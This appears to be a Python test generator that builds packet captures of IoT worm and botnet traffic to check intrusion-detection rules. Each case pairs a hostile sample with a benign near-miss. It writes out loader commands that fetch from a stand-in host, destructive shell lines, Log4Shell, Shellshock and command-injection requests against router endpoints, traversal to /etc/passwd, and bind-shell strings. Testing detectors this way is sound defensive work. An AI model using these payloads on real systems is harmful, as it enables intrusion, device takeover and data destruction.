"""Cases of worms and botnets of devices: scans, loader commands, exploits, programs, channels.

The commands and requests are the shortest texts that a rule names; nothing in them works: hosts are
of the documentation ranges, and no program follows.
"""

import struct
from collections.abc import Iterable

from scapy.layers.inet import ICMP, IP, TCP
from scapy.layers.l2 import Ether
from scapy.packet import Packet

from .wire import (
    ATTACKER,
    CONTROLLER,
    ENGINEER,
    EPOCH,
    HMI,
    C,
    Exchange,
    S,
    case,
    mac,
    merged,
    tcp,
    udp,
)

TELNET = 23
OURS = range(1945001, 1945076)
LOADER = "http://198.51.100.7/bins"

TYPED = {  # sid: lines typed into a shell, near misses
    1945010: ("/bin/busybox KDVRX", "/bin/busybox ls -l"),
    1945011: ("enable\r\nsystem\r\nshell\r\nsh", "enable\r\nshow system\r\nshell"),
    1945012: ("curl -o d //198.51.100.7/d; chmod 777 d", "ls; chmod 644 notes"),
    1945013: (f"wget {LOADER}/d", "show http://198.51.100.7/"),
    1945014: ("tftp -g -r d 198.51.100.7", "show tftp server"),
    1945015: ('echo -ne "\\x7f\\x45\\x4c\\x46\\x01" > d', 'echo -ne "\\x1b[2J"'),
    1945016: (">/tmp/.t && cd /tmp/; cat /proc/mounts", "cat /proc/mounts"),
    1945017: ("iptables -A INPUT -p tcp --dport 23 -j DROP", "iptables -L INPUT"),
    1945018: ("killall -9 telnetd", "kill -1 812"),
    1945019: ("cat /dev/urandom > /dev/mtdblock0", "cat /dev/mtd"),
    1945020: ("rm -rf /*", "rm -rf notes"),
    1945021: ("route del default", "route add default gw 10.10.20.1"),
    1945022: ("reboot", "show reboot-reason"),
}
ASKED = {  # sid: (request line, headers, body)
    1945006: ("GET /", ["User-Agent: Hello, world"], ""),
    1945025: ("POST /UD/act?1", [], "<NewNTPServer1>`id`</NewNTPServer1>"),
    1945026: ("GET /cgi-bin/x?ip=1;wget+198.51.100.7/d", [], ""),
    1945027: ("POST /ping.cgi", [], "ip=1;wget http://198.51.100.7/d"),
    1945028: ("POST /ctrlt/DeviceUpgrade_1", [], "<NewStatusURL>$(id)</NewStatusURL>"),
    1945029: ("POST /upnp", [], "AddPortMapping <NewInternalClient>`id`</NewInternalClient>"),
    1945030: ("POST /GponForm/diag_Form?images/", [], "dest_host=a"),
    1945031: ("POST /HNAP1/", ["SOAPAction: http://purenetworks.com/HNAP1/`id`"], "x=1"),
    1945032: ("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id", [], ""),
    1945033: ("GET /shell?cat+/etc/version", [], ""),
    1945034: ("POST /tmUnblock.cgi", [], "ttcp_ip=-h+%60id%60"),
    1945035: ("POST /cgi-bin/luci/;stok=/locale?form=country&country=$(id)", [], "x=1"),
    1945036: ("PUT /SDK/webLanguage", [], "<language>$(id)</language>"),
    1945037: ("POST /apply.cgi", [], "submit_type=adjust&adj_time_year=$(id)"),
    1945038: ("GET /board.cgi?cmd=id", [], ""),
    1945039: ("POST /cgi-bin/ViewLog.asp", [], "remote_submit_Flag=1&remote_host=%3bid"),
    1945040: ("GET /", ["Referer: () { :; }; id"], ""),
    1945041: ("GET /", ["X-Api-Version: ${jndi:ldap://198.51.100.7/a}"], ""),
    1945042: ("GET /?q=${jndi:ldap://198.51.100.7/a}", [], ""),
    1945043: ("GET /x/../../../../etc/passwd", [], ""),
    1945044: ("GET /b/d.arm7", [], ""),
    1945045: ("GET /bins.sh", [], ""),
    1945055: ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd", [], ""),
    1945056: ("GET /diag?host=10.10.20.1|/bin/ls", [], ""),
    1945057: ("GET /diag?host=`telnetd+-l/bin/sh`", [], ""),
    1945058: ("GET /set.cgi?pwd=$(nc+198.51.100.7+99)", [], ""),
    1945059: ("GET /language/Swedish${IFS}&&ls${IFS}/x", [], ""),
    1945060: ("POST /forms/net_Web_pingtest", [], "srvName=1.1.1.1;/bin/id;"),
    1945061: ("POST /login", [], "username=${jndi:ldap://198.51.100.7/a}"),
    1945062: ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [], "<?php 1;"),
    1945063: ("GET /?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", [], ""),
    1945064: ("POST /wbm/php/execute.php", [], '{"aDeviceParams":{"0":{"name":"x;id"}}}'),
    1945065: ("POST /goform/formSysCmd", [], "sysCmd=ls&apply=Apply"),
    1945066: ("POST /command.php", [], "cmd=ls"),
    1945067: ("GET /console/css/%252e%252e%252fconsole.portal", [], ""),
    1945068: ("GET /cgi-bin/nas_sharing.cgi?user=a&cmd=15&system=aWQ=", [], ""),
    1945071: ("GET /cgi-bin/x?ip=1;curl+198.51.100.7/d", [], ""),
    1945072: ("GET /cgi-bin/x?ip=$(tftp+-g+198.51.100.7)", [], ""),
    1945073: ("GET /cgi-bin/x?ip=|busybox${IFS}tftp", [], ""),
    1945074: ("GET /cgi-bin/x?ip=1;fetch+http://198.51.100.7/d", [], ""),
    1945075: ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [], ""),
}
AGAIN: list[tuple[int, tuple[str, list[str], str]]] = [  # other ways of the same
    (1945026, ("GET /cgi-bin/;wget$IFS-O$IFS/tmp/x$IFS", [], "")),
    (1945027, ("POST /d", [], 'addr="1.1.1.1+`wget+http://198.51.100.7/b`"')),
    (1945027, ("POST /d", [], '<NTP Server="$(wget http://198.51.100.7/l)"/>')),
    (1945040, ("GET /", ["Referer: () { ignored; }; echo; /bin/id"], "")),
    (1945041, ("GET /", ["X-Forwarded-For: ${${lower:j}ndi:ldap://198.51.100.7/a}"], "")),
    (1945042, ("GET /?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", [], "")),
    (1945043, ("GET /cgi-bin/..%2f..%2F../etc/passwd", [], "")),
    (1945075, ("GET /%2E%2e/%2e%2e%2f%2e%2e/etc/passwd", [], "")),
    (1945026, ("GET /x?a=;wget+198.51.100.7/d+||+curl+198.51.100.7/d", [], "")),
    (1945026, ("GET /x?wget=1&a=;curl+198.51.100.7/d", [], "")),
    (1945043, ("GET /..a/.%2e/.%2e/.%2e/.%2e/bin/sh", [], "")),
    (1945055, ("GET /forms/net_WebPingGetValue?host=127.0.0.1;id", [], "")),
    (1945058, ("GET /x?brightness=$(echo%20a)", [], "")),
    (1945060, ("POST /diag.cgi", [], "host=`telnetd -l /bin/sh -p 4444`")),
    (1945060, ("POST /diag.cgi", [], "k=1&uamip=1.1.1.1%3Bid")),
    (1945060, ("POST /api", [], '{"host": "10.10.20.1|id"}')),
    (1945061, ("POST /", [], '{"a":"${${::-j}ndi:ldap://198.51.100.7/a}"}')),
    (
        1945064,
        ("POST /wbm/plugins/wbm-legal-information/x/licenses.php", [], '{"package":";id;#"}'),
    ),
]
TEXT = "PROGRAM x\nVAR a:INT; END_VAR\n(* old way; wget http://10.10.20.1/a *)\nEND_PROGRAM"
NOT_ASKED = [
    ("GET /", ["User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)"], ""),
    ("POST /UD/act?1", [], "<NewNTPServer1>10.10.20.1</NewNTPServer1>"),
    ("GET /cgi-bin/x?ip=1;list", [], ""),
    ("POST /ping.cgi", [], "ip=10.10.20.1&note=wget manual"),
    ("POST /ctrlt/DeviceUpgrade_1", [], "<NewStatusURL>http://10.10.20.1/</NewStatusURL>"),
    ("POST /upnp", [], "AddPortMapping <NewInternalClient>10.10.20.5</NewInternalClient>"),
    ("POST /GponForm/diag_Form", [], "dest_host=10.10.20.1"),
    ("POST /HNAP1/", ["SOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings"], "x=1"),
    ("GET /setup.cgi?next_file=netgear.cfg&todo=show", [], ""),
    ("GET /shell.html", [], ""),
    ("POST /tmUnblock.cgi", [], "ttcp_ip=10.10.20.1"),
    ("POST /cgi-bin/luci/;stok=/locale?form=country&country=DE", [], "x=1"),
    ("PUT /SDK/webLanguage", [], "<language>English</language>"),
    ("POST /apply.cgi", [], "submit_type=adjust&adj_time_year=2026"),
    ("GET /board.cgi?page=1", [], ""),
    ("POST /cgi-bin/ViewLog.asp", [], "remote_host=10.10.20.1"),
    ("GET /a/../b/index.html", [], ""),
    ("GET /d.army", [], ""),
    ("GET /manual.sh.txt", [], ""),
    ("POST /upload", ["Content-Type: text/plain"], TEXT),
    ("POST /upload", ["Content-Type: text/plain"], "a=1 ; wget http://10.10.20.1/a"),
    (
        "POST /log",
        [],
        "note=pump 2; id 44 replaced; cat food | sh sensor ok; wget http://10.1.1.1/",
    ),
    ("POST /note", [], '{"text":"valve 3; reboot done; ls checked; wget http://10.10.20.1/a"}'),
    ("POST /query", [], '{"query":"SELECT * FROM t WHERE id=1; -- wget","x":"$(pump1)"}'),
    ("POST /report;jsessionid=ABCDEF01", [], "from=2024-01-01;to=2024-02-01"),
    ("GET /hist?tags=A|B|id&from=2024;to=2025&fn=$(avg)", [], ""),
    ("GET /rows?cols=name;id;status&other=a|id|b&sort=`id2`", [], ""),
    ("GET /js/app.js?v=1.0;x=$(document)", [], ""),
    ("GET /page?next=cat/index&wifset=1&IFSET=2", [], ""),
    ("POST /tmpl", [], "text=${name} and ${value}"),
    ("POST /wbm/php/execute.php", [], '{"aDeviceParams":{"0":{"name":"get_typelabel"}}}'),
    ("GET /goform/formSysCmdHelp", [], ""),
    ("POST /command.php", [], "value=ls"),
    ("GET /vendor/phpunit/readme.txt", [], ""),
    ("GET /?s=index/invokefunction", [], ""),
    ("GET /a%252eb%252e.html", [], ""),
    ("GET /a%2eb%2ehtml;fetchall+1;curly+a;tftpd+b", [], ""),
    ("GET /cgi-bin/nas_sharing.cgi?page=1", [], ""),
    ("GET /", ["Referer: http://10.10.20.1/f() {}"], ""),
]


def typed(*lines: str) -> Exchange:
    """Lines for a shell, each answered by a prompt."""
    said: list[tuple[str, bytes]] = [(S, b"\r\n# ")]
    for line in lines:
        said += [(C, line.encode() + b"\r\n"), (S, b"\r\n# ")]
    return said


def asked(line: str, headers: list[str], body: str) -> Exchange:
    more = [f"Content-Length: {len(body)}"] if body else []
    text = "\r\n".join([f"{line} HTTP/1.1", "Host: 10.10.20.20", *headers, *more, "", body])
    return [(C, text.encode()), (S, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]


def bare(packets: Iterable[Packet], step: float) -> list[Packet]:
    made = []
    for number, packet in enumerate(packets):
        frame = Ether(src=mac(packet[IP].src), dst=mac(packet[IP].dst)) / packet
        frame.time = EPOCH + number * step
        made.append(frame)
    return made


def knocks(count: int, port: int, step: float, flags: str = "S") -> list[Packet]:
    """One packet to each of so many hosts."""
    hosts = (f"10.10.{30 + n // 200}.{1 + n % 200}" for n in range(count))
    return bare(
        (
            IP(src=ATTACKER, dst=host) / TCP(sport=40000 + n, dport=port, flags=flags, seq=n + 1)
            for n, host in enumerate(hosts)
        ),
        step,
    )


def scans() -> None:
    packets = knocks(40, TELNET, 0.1)
    case("iot_spread-knocks", "Telnet, 40 hosts in 4 s.", packets, {1945001: 1})
    text = "Telnet, five hosts; another port, 40 hosts."
    packets = merged(knocks(5, TELNET, 1), knocks(40, 8444, 0.1))
    case("iot_spread-knocks-few", text, packets, silent=OURS)
    refused = [
        IP(src=CONTROLLER, dst=ATTACKER) / TCP(sport=100 + n, dport=45000, flags="RA", ack=1)
        for n in range(60)
    ]
    text = "60 ports refuse in 6 s."
    case("iot_spread-refused", text, bare(refused, 0.1), {1945002: 1})
    text = "A host that is down refuses once in two seconds."
    case("iot_spread-refused-slow", text, bare(refused[:20], 2), silent=OURS)
    echoes = [
        IP(src=ATTACKER, dst=f"10.10.20.{n}") / ICMP(type=8, id=7, seq=n) for n in range(1, 61)
    ]
    case("iot_spread-pings", "60 echo requests in 3 s.", bare(echoes, 0.05), {1945003: 1})
    case("iot_spread-pings-slow", "Ten in 20 s.", bare(echoes[:10], 2), silent=OURS)
    case("iot_spread-null", "No flag.", knocks(3, 502, 0.1, ""), {1945004: 3})
    case("iot_spread-xmas", "FIN, PSH, URG.", knocks(3, 502, 0.1, "FPU"), {1945005: 3})
    case("iot_spread-fin", "FIN and ACK.", knocks(3, 502, 0.1, "FA"), silent=OURS)

    ends = {"src": ATTACKER, "dst": CONTROLLER}
    for count, step, found in ((450, 0.005, 1), (450, 0.5, 0)):
        opened = [
            IP(**ends) / TCP(sport=20000 + n, dport=80, flags="S", seq=n) for n in range(count)
        ]
        text = f"{count} connection requests, one each {step} s."
        case(f"iot_spread-syn-{found}", text, bare(opened, step), {1945053: found})
        echoed = [IP(**ends) / ICMP(type=8, id=7, seq=n) for n in range(count)]
        quick = {1945003: 1} if found else {}
        text = f"{count} echo requests, one each {step} s."
        case(f"iot_spread-echo-{found}", text, bare(echoed, step), {1945054: found, **quick})

    search = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n\r\n'
    probe = b"<s:Envelope><a>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</a></s:Envelope>"
    every = b"\0\0\0\0\0\1\0\0\0\0\0\0\x09_services\x07_dns-sd\x04_udp\x05local\0\0\x0c\0\1"
    for name, group, port, payload, near, sid in (
        ("ssdp", "239.255.255.250", 1900, search, b"NOTIFY * HTTP/1.1\r\n\r\n", 1945007),
        ("wsd", "239.255.255.250", 3702, probe, probe.replace(b"Probe", b"Hello"), 1945008),
        ("mdns", "224.0.0.251", 5353, every, every.replace(b"_services", b"_printer_"), 1945009),
    ):
        packets = udp(ATTACKER, group, port, [(C, payload)], sport=port)
        case(f"iot_spread-{name}", f"{name} asks for all.", packets, {sid: 1})
        packets = udp(ATTACKER, group, port, [(C, near)], sport=port)
        case(f"iot_spread-{name}-not", f"{name} tells.", packets, silent=OURS)


def shells() -> None:
    for number, (sid, (line, _)) in enumerate(TYPED.items(), 1):
        packets = tcp(ATTACKER, CONTROLLER, TELNET, typed(line))
        case(f"iot_spread-typed-{number:02}", f"Typed: {line.split()[0]}.", packets, {sid: 1})
    for sid in (1945010, 1945011, 1945012, 1945020, 1945022):
        said = [(C, TYPED[sid][0].replace("\r\n", "\n").replace("; ", "\n").encode() + b"\n")]
        packets = tcp(ATTACKER, CONTROLLER, TELNET, said)
        case(f"iot_spread-typed-lf-{sid - 1945000}", "Lines end with LF.", packets, {sid: 1})
    worm = [(S, b"# "), (C, b"/bin/busybox KDVRX\r\n"), (S, b"KDVRX: applet not found\r\n# ")]
    packets = tcp(ATTACKER, CONTROLLER, TELNET, worm, midstream=True)
    text = "busybox, joined at the device's packet."
    case("iot_spread-busybox-midstream-server", text, packets, {1945010: 1})
    near = [(S, b"# "), (C, TYPED[1945010][1].encode() + b"\r\n")]
    packets = tcp(ENGINEER, CONTROLLER, TELNET, near, midstream=True)
    case("iot_spread-midstream-server-not", "Another applet, joined.", packets, silent=OURS)
    packets = tcp(ENGINEER, CONTROLLER, TELNET, typed(*(near for _, near in TYPED.values())))
    case("iot_spread-typed-not", "Commands of a day's work.", packets, silent=OURS)
    echoed = [(S, line.encode() + b"\r\n") for line, _ in TYPED.values()]
    packets = tcp(ENGINEER, CONTROLLER, TELNET, echoed)
    case("iot_spread-echoed", "The same from the device.", packets, silent=OURS)
    worm = typed("/bin/busybox KDVRX")
    for name, options in (
        ("split", {"split": 1}),
        ("vlan", {"vlan": 40}),
    ):
        packets = tcp(ATTACKER, CONTROLLER, TELNET, worm, **options)  # type: ignore[arg-type]
        case(f"iot_spread-busybox-{name}", f"busybox, {name}.", packets, {1945010: 1})

    packets = tcp(ATTACKER, CONTROLLER, TELNET, worm[1:], midstream=True)
    case("iot_spread-busybox-midstream", "busybox, midstream.", packets, {1945010: 1})

    connect = struct.pack("<4sIIIII", b"CNXN", 0x01000000, 4096, 7, 0, 0xB1A7B1BC) + b"host::\0"
    shell = struct.pack("<4sIIIII", b"OPEN", 1, 0, 9, 0, 0xB1BAAFB0) + b"shell:id\0"
    sync = struct.pack("<4sIIIII", b"OPEN", 1, 0, 6, 0, 0xB1BAAFB0) + b"sync:\0"
    packets = tcp(ATTACKER, CONTROLLER, 5555, [(C, connect), (C, shell)])
    case("iot_spread-adb", "A shell by adb.", packets, {1945023: 1, 1945024: 1})
    packets = tcp(ATTACKER, CONTROLLER, 5555, [(C, connect), (C, sync)])
    case("iot_spread-adb-sync", "Another stream.", packets, {1945023: 1}, [1945024])
    packets = tcp(ATTACKER, CONTROLLER, 5555, [(S, connect), (C, b"OPEN file")])
    case("iot_spread-adb-not", "Other bytes.", packets, silent=OURS)


def requests() -> None:
    for number, (sid, request) in enumerate(ASKED.items(), 1):
        packets = tcp(ATTACKER, CONTROLLER, 80, asked(*request))
        text = f"{request[0].split('?')[0]}"
        case(f"iot_spread-asked-{number:02}", text, packets, {sid: 1})
    for number, (sid, request) in enumerate(AGAIN, 1):
        packets = tcp(ATTACKER, CONTROLLER, 80, asked(*request))
        case(f"iot_spread-again-{number:02}", f"{request[0][:60]}", packets, {sid: 1})
    for port in (443, 7001, 10000):
        packets = tcp(ATTACKER, CONTROLLER, port, asked(*ASKED[1945030]))
        case(f"iot_spread-port-{port}", f"In clear on {port}.", packets, {1945030: 1})
    flows = [
        tcp(ENGINEER, CONTROLLER, 80, asked(*request), sport=42000 + n, start=n)
        for n, request in enumerate(NOT_ASKED)
    ]
    case("iot_spread-asked-not", "Requests of a browser.", merged(*flows), silent=OURS)
    for name, machine, count in (("arm", 0x28, 1), ("mips", 8, 1), ("x86-64", 0x3E, 0)):
        program = b"\x7fELF\1\1\1" + bytes(9) + struct.pack("<HHI", 2, machine, 1) + bytes(64)
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(program)}\r\n\r\n".encode()
        said = [(C, b"GET /d HTTP/1.1\r\nHost: a\r\n\r\n"), (S, head + program)]
        packets = tcp(CONTROLLER, ATTACKER, 80, said)
        text = f"The head of a program for {name}."
        case(f"iot_spread-program-{name}", text, packets, {1945046: count})


def channels() -> None:
    alive = [(C, b"\0\0\0\1"), (C, b"\0"), (S, b"\0\0"), (C, b"\0\0")]
    packets = tcp(CONTROLLER, ATTACKER, 23, alive)
    case("iot_spread-mirai", "Reports, keeps alive.", packets, {1945047: 1, 1945048: 1})
    packets = tcp(CONTROLLER, ATTACKER, 23, [(C, b"\0\0\0\2"), (C, b"\0\0")])
    case("iot_spread-mirai-not", "Other numbers.", packets, silent=OURS)
    found = b"\0" + bytes([10, 10, 20, 20]) + b"\0\x17" + b"\5admin" + b"\4wxyz"
    packets = tcp(CONTROLLER, ATTACKER, 48101, [(C, found)])
    case("iot_spread-mirai-found", "A device is reported.", packets, {1945049: 1})
    packets = tcp(CONTROLLER, ATTACKER, 48101, [(C, found[:7] + bytes(9)), (S, found)])
    case("iot_spread-mirai-found-not", "Other bytes.", packets, silent=OURS)
    packets = tcp(CONTROLLER, ATTACKER, 6999, [(S, b"!* SCANNER ON\n"), (C, b"PONG\n")])
    case("iot_spread-gafgyt", "An order to scan.", packets, {1945050: 1})
    packets = tcp(CONTROLLER, ATTACKER, 6999, [(S, b"!* WELCOME\n"), (C, b"PING\n")])
    case("iot_spread-gafgyt-not", "Another greeting.", packets, silent=OURS)
    for number, node in enumerate((b"88888888abcdefghijkl", b"81828384abcdefghijkl")):
        ping = b"d1:ad2:id20:" + node + b"e1:q4:ping1:t2:aa1:y1:qe"
        packets = udp(CONTROLLER, "198.51.100.7", 6881, [(C, ping)])
        case(f"iot_spread-node-{number}", "A DHT ping.", packets, {1945051: 1 - number})
    for number, line in enumerate((b"NICK x\r\nUSER x x x :x\r\n", b"GET / HTTP/1.0\r\n\r\n")):
        packets = tcp(CONTROLLER, "198.51.100.7", 6667, [(C, line)])
        case(f"iot_spread-irc-{number}", "IRC, or not.", packets, {1945052: 1 - number})
    install = bytes.fromhex("0000000100000001000000040000000800000001") + bytes(4)
    debug = bytes.fromhex("1a2b3c4d00000000000000025555555500000001") + bytes(44)
    answer = bytes.fromhex("1a2b3c4d00000001") + bytes(56)
    packets = tcp(ATTACKER, CONTROLLER, 4786, [(C, install)])
    case("iot_spread-smart-install", "A switch is asked for.", packets, {1945069: 1})
    packets = tcp(ENGINEER, CONTROLLER, 4786, [(S, install), (C, b"\0\0\0\2" + install[4:])])
    case("iot_spread-smart-install-not", "A reply; another version.", packets, silent=OURS)
    packets = udp(ATTACKER, CONTROLLER, 17185, [(C, debug), (S, answer)])
    case("iot_spread-debug-agent", "The debug agent answers.", packets, {1945070: 1})
    packets = udp(ENGINEER, CONTROLLER, 17185, [(C, debug), (S, b"other" + bytes(60))])
    case("iot_spread-debug-agent-not", "It does not.", packets, silent=OURS)
    poll = [
        (C, bytes.fromhex("000100000006010300000002")),
        (S, bytes.fromhex("000100000007010304000a000b")),
    ]
    packets = tcp(HMI, CONTROLLER, 502, poll * 20)
    case("iot_spread-polling", "Modbus polling.", packets, silent=OURS)


def make() -> None:
    scans()
    shells()
    requests()
    channels()
